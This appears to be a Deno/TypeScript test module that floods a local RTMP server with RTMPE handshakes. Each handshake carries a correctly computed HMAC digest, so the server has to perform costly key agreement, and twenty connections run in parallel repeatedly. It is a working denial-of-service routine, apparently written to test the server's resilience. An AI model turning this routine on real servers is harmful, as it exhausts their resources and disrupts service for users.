import { createHmac, randomBytes } from "node:crypto";
import { type Attacks, repeat } from "../attack.ts";

const BLOCK = 1536;

/** C0 and C1 of RTMPE with a good digest, so that the server computes an agreement. */
function hello(): Uint8Array {
  const c1 = randomBytes(BLOCK);
  c1.set([0, 0, 0, 1, 128, 0, 7, 2]);
  const sum = c1[772]! + c1[773]! + c1[774]! + c1[775]!;
  const at = 776 + sum % 728;
  const digest = createHmac("sha256", "Genuine Adobe Flash Player 001")
    .update(c1.subarray(0, at)).update(c1.subarray(at + 32)).digest();
  c1.set(digest, at);
  return Uint8Array.of(6, ...c1);
}

export const rtmpeAttacks: Attacks = {
  "encrypted handshakes without an end": async ({ rtmp }, until) => {
    const bytes = hello();
    const shake = async () => {
      const conn = await Deno.connect({ hostname: "127.0.0.1", port: rtmp });
      try {
        await conn.write(bytes);
        await conn.read(new Uint8Array(4_096));
      } finally {
        conn.close();
      }
    };
    await repeat(until, async () => {
      await Promise.allSettled(Array.from({ length: 20 }, shake));
    });
  },
};
